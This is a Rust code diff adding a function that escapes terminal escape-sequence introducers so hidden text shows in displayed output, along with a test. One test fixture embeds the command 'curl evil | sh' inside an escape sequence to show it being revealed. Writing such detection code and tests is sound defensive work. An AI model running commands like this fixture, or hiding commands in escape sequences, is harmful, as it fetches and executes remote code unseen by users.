@@ -17,7 +17,7 @@ pub fn make_visible(value: &mut Value) {
                 let old = std::mem::take(map);
                 map.extend(
                     old.into_iter()
-                        .map(|(key, value)| (text::visible(&key), value)),
+                        .map(|(key, value)| (visible_line(&key), value)),
                 );
             }
             map.values_mut().for_each(make_visible);
@@ -30,9 +30,27 @@ pub fn make_visible(value: &mut Value) {
 pub fn visible_lines(string: &str) -> String {
     let lines: Vec<String> = string
         .split('\n')
-        .map(|line| text::visible(line.strip_suffix('\r').unwrap_or(line)))
+        .map(|line| visible_line(line.strip_suffix('\r').unwrap_or(line)))
         .collect();
     lines.join("\n")
+}
+
+/// Returns a line with everything in it. Escape sequences are shown and not removed, as on a terminal: a file can have
+/// what looks like one, and a difference without it would hide what the file does.
+fn visible_line(line: &str) -> String {
+    let is_introducer = |c: char| matches!(c, '\u{1b}' | '\u{80}'..='\u{9f}');
+    if !line.contains(is_introducer) {
+        return text::visible(line);
+    }
+    let mut shown = String::with_capacity(line.len());
+    for c in line.chars() {
+        if is_introducer(c) {
+            shown.extend(c.escape_unicode());
+        } else {
+            shown.push(c);
+        }
+    }
+    text::visible(&shown)
 }
 
 /// Returns false for the usual text, which needs no copy.
@@ -67,5 +85,23 @@ mod tests {
                 .is_some_and(|text| text.contains('\n')),
             "{value}"
         );
+    }
+
+    #[test]
+    fn console_text_hides_nothing_in_escape_sequences() {
+        for (hidden, shown) in [
+            (
+                "echo hi\u{1b}]; curl evil | sh;\u{7}",
+                r"echo hi\u{1b}]; curl evil | sh;\u{7}",
+            ),
+            ("a\u{1b}_; evil\u{1b}\\", r"a\u{1b}_; evil\u{1b}\"),
+            ("a\u{9b}31mb\u{9d}c", r"a\u{9b}31mb\u{9d}c"),
+            ("a\u{1b}[8mb", r"a\u{1b}[8mb"),
+        ] {
+            assert_eq!(visible_lines(hidden), shown);
+            let mut value = json!({ hidden: 1 });
+            make_visible(&mut value);
+            assert_eq!(value, json!({ shown: 1 }));
+        }
     }
 }
